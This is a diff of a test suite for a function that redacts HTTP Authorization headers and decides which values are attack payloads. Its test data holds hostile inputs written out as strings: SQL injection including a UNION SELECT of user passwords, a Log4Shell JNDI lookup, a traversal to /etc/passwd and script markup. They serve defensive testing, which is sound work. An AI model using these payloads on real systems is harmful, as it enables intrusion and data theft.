@@ -70,7 +70,7 @@ describe('Authorization values that are attack payloads', () => {
   it.each([
     ['SQL in place of a bearer token', "Bearer ' OR 1=1--"],
     ['a Log4Shell lookup with no scheme', '${jndi:ldap://203.0.113.9/a}'],
-    ['markup in place of a token', 'Token <script>alert(1)</script>'],
+    ['a UNION in place of a token', "Bearer x' UNION SELECT password FROM users--"],
   ])('%s is sent in clear', (_what, value) => {
     expect(redactAuthorization(value, new CredentialPayloads())).toEqual({ value, inClear: 1 });
   });
@@ -97,6 +97,11 @@ describe('Authorization values that are attack payloads', () => {
     ['a traversal spelled in the token alphabet', 'Bearer ../../../../etc/passwd', `Bearer ${expected('../../../../etc/passwd')}`],
     ['markup under Basic (a broken client may send the pair itself)', 'Basic <script>alert(1)</script>', `Basic ${expected('<script>alert(1)</script>')}`],
     ['a raw user:password pair with SQL in the password', "alice:x' OR '1'='1", expected("alice:x' OR '1'='1")],
+    ['a key before a space (no scheme to keep)', 'ghp_secretKey123 x', expected('ghp_secretKey123 x')],
+    // Without whitespace a value may be a password or key of any punctuation: never judged.
+    ['markup with no space in it', 'Token <script>alert(1)</script>', `Token ${expected('<script>alert(1)</script>')}`],
+    ['a punctuated password', 'Bearer S>t<mw]VQr?w~8PF"~O', `Bearer ${expected('S>t<mw]VQr?w~8PF"~O')}`],
+    ['a URL-encoded base64 token', 'Bearer w%2B4Bi8V7XCz%2B%2Fdx9OqQvi2%2BX3PNq', `Bearer ${expected('w%2B4Bi8V7XCz%2B%2Fdx9OqQvi2%2BX3PNq')}`],
   ])('keeps %s redacted', (_what, value, sent) => {
     expect(redactAuthorization(value, new CredentialPayloads())).toEqual({ value: sent, inClear: 0 });
   });
@@ -116,6 +121,21 @@ describe('Authorization values that are attack payloads', () => {
         if (!/\s/.test(secret)) expect(payloads.isPayload('Authorization', `${scheme}alice:${secret}`)).toBe(false);
       }),
       { numRuns: 500 },
+    );
+  });
+
+  it('never sends a value without whitespace in clear, whatever punctuation it holds (but a lookup expression)', () => {
+    const payloads = new CredentialPayloads();
+    fc.assert(
+      fc.property(
+        fc.constantFrom('Bearer ', 'Token ', ''),
+        fc.string({ unit: fc.integer({ min: 0x21, max: 0x7e }).map((c) => String.fromCharCode(c)), minLength: 1, maxLength: 40 }),
+        (scheme, secret) => {
+          fc.pre(!secret.startsWith('${'));
+          expect(payloads.isPayload('Authorization', `${scheme}${secret}`)).toBe(false);
+        },
+      ),
+      { numRuns: 2000 },
     );
   });
 
